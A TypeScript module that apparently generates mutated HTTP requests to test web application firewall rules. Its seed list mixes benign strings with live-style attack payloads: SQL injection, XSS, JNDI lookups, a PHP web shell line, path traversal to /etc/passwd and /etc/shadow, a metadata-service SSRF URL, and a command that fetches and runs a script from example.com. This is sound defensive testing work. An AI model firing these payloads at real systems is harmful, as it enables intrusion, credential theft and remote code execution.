import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

const corpora = process.env.PORTCULLIS_CORPORA ?? join(import.meta.dirname, '../../../shared/corpora');

type Random = () => number;

const pick = <T>(random: Random, from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
const below = (random: Random, most: number): number => Math.floor(random() * most);

/** Values that rules are about, and values that look like them. */
const SEEDS: readonly string[] = [
  "1' OR '1'='1",
  '1 UNION SELECT username, password FROM users--',
  "admin'-- ",
  '1; DROP TABLE orders',
  "' AND SLEEP(5) AND 'a'='a",
  '1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0',
  "x' || (SELECT version()) || '",
  '1/**/UNION/**/ALL/**/SELECT/**/1,2,3',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=confirm(1)>',
  'javascript:alert(1)',
  '<iframe src="data:text/html;base64,PHNjcmlwdD4="></iframe>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '{{7*7}}',
  '${jndi:ldap://example.com/a}',
  '#{T(java.lang.Runtime).getRuntime().exec("id")}',
  '; cat /etc/passwd',
  '| ping -c 10 127.0.0.1',
  '$(curl http://example.com/x.sh | bash)',
  '`id`',
  '&& net user',
  'powershell -enc SQBFAFgA',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fshadow',
  '..\\..\\windows\\win.ini',
  '/proc/self/environ',
  'http://169.254.169.254/latest/meta-data/',
  'php://filter/convert.base64-encode/resource=index.php',
  '<?php system($_GET["c"]); ?>',
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
  'java.lang.ProcessBuilder',
  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
  '*)(uid=*))(|(uid=*',
  '\r\nSet-Cookie: a=b',
  '%0d%0aLocation: http://example.com',
  '__proto__[polluted]=1',
  'process.mainModule.require("child_process").exec("id")',
  '{"$ne": null}',
  "O'Brien and sons",
  'select a plan from the list below',
  'a < b && c > d',
  'Tom & Jerry; the movie',
  'https://www.example.com/path?x=1&y=2#z',
  'user@example.com',
  '2026-11-26T16:26:52Z',
  'c3VwZXIgc2VjcmV0',
  '\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d',
  '100% sure, 50% off',
];

/** Values of others, where their folder is at hand. */
function foreignSeeds(): string[] {
  const seeds: string[] = [];
  const csv = join(corpora, 'detection/http-params-train.csv');
  if (existsSync(csv)) {
    const lines = readFileSync(csv, 'latin1').split('\n').slice(1);
    for (const line of lines) {
      const payload = /^"((?:[^"]|"")*)"/.exec(line)?.[1]?.replaceAll('""', '"') ?? '';
      if (payload !== '' && payload.length < 2000) seeds.push(payload);
    }
  }
  const folder = join(corpora, 'detection/libinjection');
  for (const file of existsSync(folder) ? readdirSync(folder) : []) {
    for (const line of readFileSync(join(folder, file), 'latin1').split('\n')) {
      const text = unescapeUrl(line.trim());
      if (text !== '' && !text.startsWith('#') && text.length < 2000) seeds.push(text);
    }
  }
  return seeds;
}

const unescapeUrl = (text: string): string =>
  text
    .replaceAll('+', ' ')
    .replace(/%([0-9a-f]{2})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));

const SPLICES = [
  "'",
  '"',
  '<',
  '>',
  '%00',
  '/*',
  '*/',
  '--',
  '#',
  ';',
  '|',
  '`',
  '$',
  '(',
  ')',
  '\\',
  '%',
  '&#x41;',
  '\t',
  '\n',
  '\0',
  '\xff',
  '%2527',
  '%u0027',
  '+',
  '=',
  '{',
  '}',
  '..',
  '/',
];

function mutate(random: Random, text: string): string {
  let mutated = text;
  for (let count = below(random, 4); count > 0; count--) {
    const at = below(random, mutated.length + 1);
    const length = below(random, 4);
    const kind = below(random, 5);
    if (kind === 0) mutated = mutated.slice(0, at) + pick(random, SPLICES) + mutated.slice(at);
    else if (kind === 1) mutated = mutated.slice(0, at) + mutated.slice(at + length);
    else if (kind === 2) mutated = mutated.slice(0, at) + mutated.slice(at, at + length) + mutated.slice(at);
    else if (kind === 3)
      mutated =
        mutated.slice(0, at) + mutated.slice(at, at + length).toUpperCase() + mutated.slice(at + length);
    else mutated = mutated.slice(0, at) + pick(random, SEEDS).slice(0, 12) + mutated.slice(at);
  }
  return mutated;
}

const escapeByte = (character: string): string => `%${character.charCodeAt(0).toString(16).padStart(2, '0')}`;
const escapeSome = (text: string): string => text.replace(/[^A-Za-z0-9._~*()!'<>;:@,$/-]/g, escapeByte);
const escapeAll = (text: string): string => text.replace(/[^A-Za-z0-9]/g, escapeByte);
const inHeader = (text: string): string => text.replace(/[\0\r\n]/g, ' ').trim();

const BASE = [
  'Host: api.example.com',
  'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
  'Accept: application/json, text/plain, */*',
  'Connection: close',
];

function request(line: string, headers: readonly string[], body = ''): string {
  const length = body === '' ? [] : [`Content-Length: ${body.length}`];
  return `${[line, ...BASE, ...headers, ...length].join('\r\n')}\r\n\r\n${body}`;
}

/** Where a value can stand in a request. */
const PLACES: readonly ((value: string, random: Random) => string)[] = [
  (value) => request(`GET /shop/orders?q=${escapeAll(value)} HTTP/1.1`, []),
  (value) => request(`GET /shop/orders?a=1&q=${escapeSome(value)}&b=2 HTTP/1.1`, []),
  // A longer name fills the line of ModSecurity's log, so that it does not say the id.
  (value) => request(`GET /shop/orders?${escapeAll(value.slice(0, 120))}=1 HTTP/1.1`, []),
  // Apache refuses paths with NUL or an escaped slash by itself.
  (value) => request(`GET /shop/${escapeAll(value.replace(/[\0/]/g, ' '))} HTTP/1.1`, []),
  (value) =>
    request('GET /shop HTTP/1.1', [`Cookie: session=abc; note=${inHeader(value).replace(/[;,]/g, '')}`]),
  (value) => request('GET /shop HTTP/1.1', [`Referer: https://www.example.com/?x=${inHeader(value)}`]),
  (value) => request('GET /shop HTTP/1.1', [`X-Custom: ${inHeader(value)}`]),
  (value) =>
    request(
      'POST /shop HTTP/1.1',
      ['Content-Type: application/x-www-form-urlencoded'],
      `name=Ann&note=${escapeAll(value)}`,
    ),
  (value) =>
    request(
      'POST /shop HTTP/1.1',
      ['Content-Type: application/x-www-form-urlencoded'],
      `note=${escapeSome(value)}`,
    ),
  (value) =>
    request(
      'POST /shop HTTP/1.1',
      ['Content-Type: application/json'],
      JSON.stringify({ id: 7, items: [{ note: value }] }),
    ),
  (value) =>
    request(
      'POST /shop HTTP/1.1',
      ['Content-Type: application/json'],
      JSON.stringify({ [value.slice(0, 60).replaceAll('\0', ' ')]: true }),
    ),
  (value) =>
    request(
      'POST /shop HTTP/1.1',
      ['Content-Type: text/xml'],
      `<order><note kind="${value.replace(/[<>&"]/g, '')}">${value.replace(/[<&]/g, '')}</note></order>`,
    ),
  (value) => {
    const part = `--xyz\r\nContent-Disposition: form-data; name="note"\r\n\r\n${value}\r\n`;
    const file =
      '--xyz\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\nhello\r\n';
    return request(
      'POST /shop HTTP/1.1',
      ['Content-Type: multipart/form-data; boundary=xyz'],
      `${part}${file}--xyz--\r\n`,
    );
  },
  (value) => {
    const name = inHeader(value).replace(/"/g, '').slice(0, 80);
    const file = `--xyz\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\nhello\r\n`;
    return request(
      'POST /shop HTTP/1.1',
      ['Content-Type: multipart/form-data; boundary=xyz'],
      `${file}--xyz--\r\n`,
    );
  },
];

/** Requests with attacks and what looks like them, each different, the same for the same random numbers. */
export function attackSamples(random: Random): () => string {
  const foreign = foreignSeeds();
  return () => {
    const seed = foreign.length > 0 && random() < 0.6 ? pick(random, foreign) : pick(random, SEEDS);
    return pick(random, PLACES)(mutate(random, seed), random);
  };
}
